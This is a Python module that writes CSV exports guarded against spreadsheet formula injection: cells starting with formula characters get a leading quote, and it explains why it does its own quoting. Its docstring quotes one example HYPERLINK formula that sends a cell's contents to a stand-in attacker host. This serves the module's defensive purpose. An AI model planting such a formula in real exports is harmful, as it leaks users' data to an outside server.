"""CSV files the service writes, safe to open in a spreadsheet: the one place CSV is written.

A text cell that begins with =, +, -, @, a tab or a carriage return is a formula to Excel, LibreOffice
and Google Sheets: a concept FathomNet names `=HYPERLINK("http://evil.example/?leak="&A2,"Open crop")`
would run as the file is opened. As OWASP recommends ("CSV Injection"), such a cell is written with a
leading single quote, which spreadsheets show as text; numbers stay numbers (a coordinate of -12 is
written -12). The page's "Download CSV" (static/js/api.js, `toCsv`) writes cells by the same rules.

Cells are quoted here rather than by Python's csv module: with "\n" ending its lines, that quotes a
cell holding a lone carriage return not at all, and a spreadsheet starts a new row there, whose
first cell (`\r=HYPERLINK(...)`) no check above would have seen.
"""

import io

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value):
    """A value as a spreadsheet must read it: numbers as they are, None as empty, text never as a formula."""
    if value is None:
        return ""
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return value
    text = str(value)
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text


def quoted(text):
    """A cell's text as CSV: in double quotes (doubled inside) if it holds a comma, a quote, a CR or an LF."""
    if any(c in text for c in ',"\r\n'):
        return '"' + text.replace('"', '""') + '"'
    return text


def write_csv(out, header, rows):
    """Write a header and rows (iterables of values) to the text file out, every cell through cell()."""
    for row in (header, *rows):
        out.write(",".join(quoted(str(cell(value))) for value in row) + "\n")


def csv_text(header, rows):
    """The CSV of a header and rows, as text."""
    out = io.StringIO()
    write_csv(out, header, rows)
    return out.getvalue()
